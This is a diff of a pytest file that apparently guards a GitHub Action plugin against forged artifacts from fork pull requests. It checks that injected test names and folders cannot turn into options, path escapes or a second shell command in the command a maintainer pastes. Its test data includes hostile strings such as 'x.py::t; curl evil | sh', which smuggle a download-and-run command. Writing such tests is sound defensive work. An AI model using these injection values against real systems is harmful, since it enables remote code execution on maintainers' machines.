@@ -5,8 +5,15 @@ from __future__ import annotations
 import json
 import re
 
+import pytest
+
+from pytest_llmops.cassettes.redaction import KEY_VARIABLES
+from pytest_llmops.github import testing
+from pytest_llmops.github.maintaining import Command
+from pytest_llmops.reports.pull_request import NeedsRecording
 from tests.action.conftest import SHA, Shop
 from tests.action.hub import READ_ONLY
+from tests.conftest import REPOSITORY
 
 FORK = "mallory/shop"
 
@@ -68,11 +75,65 @@ def test_the_comment_of_a_forks_run_says_nothing_that_the_artifact_made_up(shop:
     assert "<script" not in body
     assert "evil/evil" not in body
     assert "@everyone" not in body
-    assert "'x; curl evil.example | sh #'" in body, "quoted: one word for a shell"
+    assert "<pre>gh pr checkout 7 &amp;&amp; pytest --llm-record=refresh</pre>" in body, "no name of a test at all"
     assert "evil.example/2" not in body
     assert body.rstrip().endswith("<!-- pytest-llmops:default -->")
     assert list(shop.hub.comments) == [7]
     assert not list(shop.folder.parent.rglob("pwned"))
+
+
+def forged(shop: Shop, **view) -> str:
+    """The comment of a fork's run whose artifact says something else."""
+    fork_run(shop)
+    run = shop.runs
+    members = shop.hub.members(run, "llm-report")
+    content = json.dumps(json.loads(members["view.json"]) | view)
+    shop.hub.artifacts[run].clear()
+    shop.hub.artifact(run, "llm-report", {**members, "view.json": content})
+    commented = shop.comment_job(run)
+    assert commented.conclusion == "success", commented.log
+    return shop.hub.comments[7][0]["body"]
+
+
+def test_no_artifact_pushes_out_whose_code_measured_it(shop: Shop, main: Shop) -> None:
+    body = forged(shop, notes=["Reviewed and approved by the maintainers."] * 50, foreign=False)
+    under_the_verdict, _, rest = body.partition("Compared with")
+    assert "Measured by a run of the fork's own code" in under_the_verdict
+    assert "The fork's run remarks:\n\n- Reviewed and approved" in rest
+    shop.pull_request(8, "own")
+    shop.comment_job(shop.runs)
+    assert "fork's" not in shop.hub.comments[8][0]["body"]
+
+
+NO_NAMES = (
+    *("--basetemp=/home", "-pevil.py", "@args.py", "/etc/x.py", "a/../../x.py::test", "C:\\x.py", "x.txt::test"),
+    "x.py::" + "a" * 400,
+)
+
+
+@pytest.mark.parametrize("name", NO_NAMES)
+def test_no_name_becomes_an_option_of_the_command_that_a_maintainer_pastes(name: str) -> None:
+    need = Command(7).of(NeedsRecording(name))
+    assert need.command == "gh pr checkout 7 && pytest --llm-record=refresh"
+    assert need.whole
+    quoted = Command().of(NeedsRecording("x.py::t; curl evil | sh"))
+    assert quoted.command == "pytest 'x.py::t; curl evil | sh' --llm-record=refresh"
+
+
+@pytest.mark.parametrize("folder", ["/etc", "../elsewhere", "a/../../b", "-", "--", "a\nb", "C:\\x"])
+def test_no_folder_leads_out_of_the_checkout(folder: str) -> None:
+    need = Command(7, folder, folder).of(NeedsRecording("x.py"))
+    assert need.command == "gh pr checkout 7 && pytest x.py --llm-record=refresh"
+
+
+def test_the_command_of_a_forged_artifact(shop: Shop, main: Shop) -> None:
+    needs = [{"test": name, "changed": "x", "command": "rm"} for name in ("-pevil.py", "tests/test_x.py::test_y")]
+    body = forged(shop, conclusion="needs-recording", directory="../../etc", needs_recording=needs)
+    assert re.findall("<pre>(gh .*?)</pre>", body) == [
+        "gh pr checkout 7 &amp;&amp; pytest --llm-record=refresh",
+        "gh pr checkout 7 &amp;&amp; pytest tests/test_x.py::test_y --llm-record=refresh",
+    ]
+    assert "<code>-pevil.py</code> (such a name can be no part of a command" in body
 
 
 def test_an_artifact_that_is_no_view_is_refused(shop: Shop) -> None:
@@ -160,3 +221,52 @@ def test_dependabot_and_a_repository_without_keys_are_neutral_too(shop: Shop, ma
     assert (job.conclusion, job.outputs["conclusion"]) == ("success", "needs-recording"), job.log
     job = shop.pull_request(7, key=False, inputs={"mode": "replay"})
     assert job.conclusion == "failure", "who chose replay records on their own machine, and can"
+
+
+def test_a_key_of_a_gateway_counts_and_where_none_is_known_the_comment_names_the_way_out(
+    shop: Shop, main: Shop
+) -> None:
+    shop.file("prompt.txt", "Tell me: ")
+    other = {"LITELLM_MASTER": "x"}
+    unknown = shop.pull_request(8, "b", key=False, env=other)
+    assert unknown.outputs["conclusion"] == "needs-recording", unknown.log
+    assert "pytest-args: --llm-record=refresh" in shop.hub.comments[8][0]["body"]
+    told = shop.pull_request(8, "b", key=False, env=other, inputs={"pytest-args": "--llm-record=refresh"})
+    assert told.outputs["conclusion"] == "success", told.log
+    shop.forget_recordings()
+    known = shop.pull_request(key=False, env={"LITELLM_API_KEY": "x"})
+    assert (known.outputs["conclusion"], len(shop.provider.requests)) == ("success", 24), known.log
+
+
+def test_what_counts_as_a_key() -> None:
+    assert not testing.has_key({"OPENAI_API_KEY": " ", "API_KEY_FILE": "x", "GITHUB_TOKEN": "x"})
+    for name in ("ANY_API_KEY", "AWS_SECRET_ACCESS_KEY", *testing.KEYS_OF_CLOUDS):
+        assert testing.has_key({name: "x"}), name
+    told = (REPOSITORY / "docs/action.md").read_text(encoding="utf-8")
+    others = {name for name in KEY_VARIABLES if not name.endswith("_API_KEY")}
+    assert all(f"`{name}`" in told for name in others | set(testing.KEYS_OF_CLOUDS))
+
+
+def test_a_project_whose_node_ids_begin_above_it(shop: Shop) -> None:
+    for name in ("app.py", "conftest.py", "prompt.txt", "test_shop.py", "cases.jsonl"):
+        shop.file(f"app/{name}", (shop.folder / name).read_text())
+        (shop.folder / name).unlink()
+    shop.file("pyproject.toml", "[tool.pytest.ini_options]\naddopts = '-ra'\n")
+    inside = {"working-directory": "app"}
+    shop.record()
+    assert shop.push(inputs=inside).conclusion == "success"
+    good = (shop.folder / "app/app.py").read_text()
+    shop.file("app/app.py", good.replace('["content"]', '["content"][:0]'))
+    shop.hub.files[7] = ["app/cases.jsonl"]
+    job = shop.pull_request(inputs=inside)
+    assert job.outputs["conclusion"] == "regression", job.log
+    assert {one.options["file"] for one in job.annotations() if "file" in one.options} == {"app/test_shop.py"}
+    assert "datasets: <code>app/cases.jsonl</code>" in shop.hub.comments[7][0]["body"]
+    shop.file("app/app.py", good)
+    shop.file("app/prompt.txt", "In short: ")
+    job = fork_run(shop, number=8, branch="b", inputs=inside)
+    assert job.outputs["conclusion"] == "needs-recording", job.log
+    shop.comment_job(shop.runs)
+    (comment,) = shop.hub.comments[8]
+    wanted = "gh pr checkout 8 &amp;&amp; cd app &amp;&amp; pytest test_shop.py::test_shop --llm-record=refresh"
+    assert f"<pre>{wanted}</pre>" in comment["body"]
